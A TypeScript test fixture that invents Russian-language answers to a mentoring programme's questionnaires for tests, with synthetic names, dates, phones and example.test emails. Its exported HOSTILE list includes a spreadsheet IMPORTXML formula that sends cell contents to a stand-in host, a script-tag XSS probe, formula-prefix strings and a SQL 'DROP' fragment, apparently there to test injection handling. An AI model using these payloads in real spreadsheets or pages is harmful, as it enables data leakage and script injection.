/** Invents answers to every questionnaire as people write them; titles and order of columns are for the tests to choose. */
import type { QuestionnaireId } from '../../../src/domain/answers/answer';

/** The written answers of one person, by field key, with `at` and `id`. */
export type WrittenAnswer = Readonly<Record<string, string>>;

const FAMILIES = [
  'Зайцев',
  'Боргояков',
  'Тюкпеев',
  'Майнагашев',
  'Ахпашев',
  'Кичеев',
  'Ким',
  'Королёв',
  'Шевченко',
  'Сагалаков-Петров',
];
const MEN = ['Айас', 'Пётр', 'Данил', 'Роман', 'Матвей'];
const WOMEN = ['Мария', 'Гузель', 'Любовь', 'Айго', 'Дарья'];
const FATHERS = ['Айасов', 'Алексеев', 'Игорев', 'Тимуров', 'Петров'];
const TIMES = ['будни утром', 'будни днём', 'будни вечером', 'суббота', 'воскресенье'];
const REQUESTS = ['программирование', 'математика', 'английский язык', 'другое: вышивка', 'профориентация', 'общение'];
const INTERESTS = ['шахматы', 'походы', 'футбол', 'кино', 'чтение', 'танцы'];
const FORMS = ['ученик – ученик', 'студент – ученик', 'работодатель – студент', 'учитель – учитель'];
/** Texts that try to become something else. */
export const HOSTILE = [
  '=IMPORTXML("http://example.test/?"&A1;"//a")',
  '<script>alert(1)</script>',
  "'уже с апострофом",
  '😀 просто хочу общаться',
  '+7',
  '@SUM(1)',
  '-2+3',
  '1/2',
  '"; DROP',
  'a\nb\tc',
];

const pick = (list: readonly string[], n: number): string => list[n % list.length] ?? '';
const several = (list: readonly string[], n: number): string =>
  Array.from(new Set([pick(list, n), pick(list, n * 3 + 1), pick(list, n * 5 + 2)])).join(', ');
const pad = (n: number): string => String(n).padStart(2, '0');

function person(n: number, isWoman: boolean): string {
  const end = isWoman ? 'а' : '';
  const family = pick(FAMILIES, n * 7);
  const feminine = /[вн]$/.test(family) && family !== 'Ким' ? family.replace(/(в|н)(-|$)/g, `$1${end}$2`) : family;
  return `${feminine} ${pick(isWoman ? WOMEN : MEN, n * 3)} ${pick(FATHERS, n * 11)}${isWoman ? 'на' : 'ич'}`;
}

const birth = (n: number, from: number, years: number): string => {
  const [year, month, day] = [from + ((n * 7) % years), (n % 12) + 1, (n % 28) + 1];
  const notations = [
    `${pad(day)}.${pad(month)}.${year}`,
    `${day}.${month}.${year}`,
    `${year}-${pad(month)}-${pad(day)}`,
    `${pad(day)}/${pad(month)}/${year}`,
  ];
  return n % 17 === 5 ? 'не скажу' : pick(notations, n);
};

const clock = (n: number): string =>
  `2026-09-${pad(1 + Math.floor(n / 24))} ${pad(n % 24)}:${pad((n * 7) % 60)}:${pad((n * 13) % 60)}`;

const phone = (n: number): string => {
  const digits = String(9_000_000_000 + ((n * 7_919_713) % 999_999_999));
  const [a, b, c, d] = [digits.slice(0, 3), digits.slice(3, 6), digits.slice(6, 8), digits.slice(8)];
  return pick([`7${digits}`, `+7 ${a} ${b}-${c}-${d}`, `8(${a})${b}${c}${d}`], n);
};

function mentee(n: number): WrittenAnswer {
  const isTeacher = n % 6 === 4;
  return {
    id: String(1000 + n),
    at: clock(n),
    name: n % 9 === 3 ? person(n, n % 2 === 0).toUpperCase() : person(n, n % 2 === 0),
    gender: n % 2 === 0 ? 'женский' : 'мужской',
    birthDate: birth(n, isTeacher ? 1985 : 2005, 12),
    role: isTeacher ? 'педагог' : pick(['ученик', 'студент'], n),
    groupOrPost: isTeacher ? 'учитель математики' : pick(['15 Б', '8 В', 'гр. П-31', '11А'], n),
    experienceYears: isTeacher ? String(n % 7) : '',
    form: pick(FORMS, n),
    requests: several(REQUESTS, n),
    requestText: n % 3 === 0 ? pick(HOSTILE, n / 3) : n % 3 === 1 ? 'Хочу подтянуть математику и найти друзей' : '',
    interests: several(INTERESTS, n + 1),
    times: several(TIMES, n),
    phone: phone(n),
    email: `u${n}.x@example.test`,
    representative: isTeacher || n % 4 === 1 ? '' : person(n + 2, true),
  };
}

function mentor(n: number): WrittenAnswer {
  const isOutside = n % 3 !== 0;
  return {
    id: String(7000 + n),
    at: clock(n + 3),
    name: person(n + 31, n % 2 === 1),
    gender: n % 2 === 1 ? 'женский' : 'мужской',
    birthDate: birth(n, 1965, 40),
    category: isOutside
      ? pick(['предприниматель', 'родитель', 'выпускник', 'работник предприятия'], n)
      : pick(['педагог', 'студент', 'ученик'], n),
    groupOrPost: isOutside ? '' : pick(['учитель физики', '10 А', 'гр. Т-12'], n),
    workplace: isOutside ? pick(['ООО «Саяны», 1901012345', 'ИП, 190100000001', 'не работаю'], n) : 'СОШ № 2',
    experienceYears: n % 3 === 0 ? String(5 + (n % 30)) : '',
    forms: several(FORMS, n),
    competences: several(REQUESTS, n + 2),
    interests: several(INTERESTS, n),
    lifeExperience: n % 5 === 2 ? pick(HOSTILE, n) : 'Работаю с детьми и люблю своё дело',
    preferredAges: pick(['10-13, 14-17', '18 и старше', '14–17', 'любой'], n),
    times: several(TIMES, n + 1),
    seats: pick(['1', 'до 4', 'одного', '2', '0', '3'], n),
    certificateDate: isOutside && n % 4 !== 1 ? pick(['05.08.2026', '1.9.2026', '2026-07-14'], n) : '',
    phone: phone(n + 500),
    email: `m${n}@example.test`,
  };
}

function consent(n: number): WrittenAnswer {
  const isAdult = n % 4 === 1;
  const participant = person(n, n % 2 === 0);
  return {
    id: String(5000 + n),
    at: clock(n + 5),
    participant,
    birthDate: birth(n, 2005, 12),
    relation: isAdult ? 'сам участник' : pick(['мать', 'опекун', 'отец'], n),
    signer: isAdult ? participant : person(n + 2, true),
    decision: n % 13 === 7 ? 'Нет' : 'Да',
    textVersion: '2026-09-01',
  };
}

function meeting(n: number): WrittenAnswer {
  return {
    id: String(9000 + n),
    at: clock(n + 9),
    pairToken: `k${(n * 7_654_321).toString(36)}z`,
    date: `2026-09-${pad(1 + Math.floor(n / 24))}`,
    minutes: String(30 + (n % 4) * 15),
    format: pick(['очно', 'дистанционно'], n),
    topic: pick(['Задачи на проценты', 'Проект по физике', 'Выбор профессии'], n),
    result: 'Разобрали три задачи и договорились о плане',
    nextStep: n % 2 === 0 ? 'Решить вариант из сборника до пятницы' : '',
    mood: String(4 + (n % 7)),
    trouble: n % 5 === 0 ? 'Да' : 'Нет',
  };
}

function final(n: number): WrittenAnswer {
  return {
    id: String(8000 + n),
    at: clock(n + 1),
    pairToken: `k${(n * 1_234_577).toString(36)}q`,
    satisfaction: String(5 + (n % 6)),
    expectations: String(4 + (n % 7)),
    value: 'Спокойный разговор и поддержка каждую неделю',
    lacks: n % 2 === 0 ? 'Времени на совместный проект в конце года' : '',
    outcome: 'Сдал экзамен лучше, чем рассчитывал',
    continue: n % 3 === 0 ? 'Нет' : 'Да',
    becomeMentor: n % 2 === 0 ? 'Да' : 'Нет',
  };
}

const WRITERS: Readonly<Record<QuestionnaireId, (n: number) => WrittenAnswer>> = {
  mentee,
  mentor,
  consent,
  meeting,
  final,
};

/** The first so many answers to a questionnaire: always the same ones, all kinds of notations and some hostile texts among them. */
export function sampleAnswers(questionnaire: QuestionnaireId, count: number): WrittenAnswer[] {
  return Array.from({ length: count }, (_, n) => WRITERS[questionnaire](n));
}
